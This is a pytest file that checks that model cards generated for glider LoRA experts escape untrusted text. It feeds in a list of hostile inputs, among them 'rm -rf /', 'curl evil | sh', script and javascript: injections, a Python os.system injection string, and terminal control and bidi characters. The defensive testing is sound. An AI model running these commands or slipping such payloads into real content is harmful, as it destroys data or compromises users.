"""What a card says is text in the model card, whatever it holds."""

import re

import pytest
import yaml

from glider.experts.base_identity import BaseIdentity
from glider.experts.card import ExpertCard
from glider.experts.prompt_format import PromptFormat
from glider.sharing.model_card import expert_model_card

HOSTILE = [
    "# Heading",
    "```\nrm -rf /\n```",
    "~~~ html\n<script>",
    "<script>alert(1)</script>",
    "![picture](http://example.org/a.png)",
    "See https://example.org, www.example.org, MAILTO:a@example.org",
    "[a link](javascript:alert(1))",
    "text\n\n# Heading\n\n```sh\ncurl evil | sh\n```\n",
    "`; code `` ` ends",
    "a | b |\n| --- | --- |",
    "- list",
    "1. list",
    "> quote",
    "---\nlicense: mit\n---",
    "\x1b]0;title\x07\x1b[31mred\u202ereversed",
    '"); import os; os.system("x',
    "**bold** _em_ $x$ &lt; &#60;script&#62;",
]


def card_of(text: str, **changes: object) -> str:
    base = BaseIdentity(model_id=text, config_hash="0" * 16, weight_hashes={})
    told = {"name": "e", "task": text, "base": base, "prompt": PromptFormat(kind="plain"), **changes}
    return expert_model_card(ExpertCard.model_validate(told), "me/e")


def rendered(text: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable("table").render(re.sub(r"(?s)\A---\n.*?\n---\n", "", text, count=1))


def skeleton(html: str) -> list[str]:
    """The tags alone."""
    return re.findall(r"</?[a-z0-9]+", html)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_words_change_nothing_but_words(text: str) -> None:
    how = {"description": text, "licence": text, "training": {"origin": text, text: 1}}
    plain = {"description": "words", "licence": "words", "training": {"origin": "words", "others": 1}}
    hostile, tame = card_of(text, **how), card_of("words", **plain)
    assert skeleton(rendered(hostile)) == skeleton(rendered(tame))
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", hostile)
    assert "<script" not in rendered(hostile)


@pytest.mark.parametrize("text", HOSTILE)
def test_the_head_is_yaml_that_says_what_it_should(text: str) -> None:
    head = yaml.safe_load(card_of(text, licence=text).split("\n---\n")[0].removeprefix("---\n"))
    assert set(head) <= {"base_model", "library_name", "license", "model_name", "pipeline_tag", "tags"}
    assert head["tags"] == ["glider", "lora"] and "base_model" not in head


@pytest.mark.parametrize("text", HOSTILE)
def test_code_to_copy_runs_nothing_of_the_cards(text: str) -> None:
    blocks = re.findall(r"(?ms)^```\w+\n(.*?)^```$", card_of(text, description=text))
    assert len(blocks) == 3
    for line in "".join(blocks).splitlines():
        assert re.fullmatch(r"[A-Za-z0-9 ._=/\"(),-]*", line), line


def test_a_bare_address_is_no_link() -> None:
    """GitHub and the hub make links of them, which lead to where a stranger wants."""
    text = card_of("words", description="At https://a.org or www.b.org (a@c.org).", licence="ftp://d.org")
    _, _, body = text.removeprefix("---\n").partition("\n---\n")
    told = body.split("## Use")[0]
    assert "a.org" in told and "c.org" in told
    assert re.search(r"(?i)://|www\.|\w@\w", told) is None


def test_ordinary_words_stay_as_they_are() -> None:
    text = card_of("words", description="Answer questions on real-world facts: who, what & when (snake_case too).")
    assert "Answer questions on real-world facts: who, what &amp; when (snake_case too)." in text
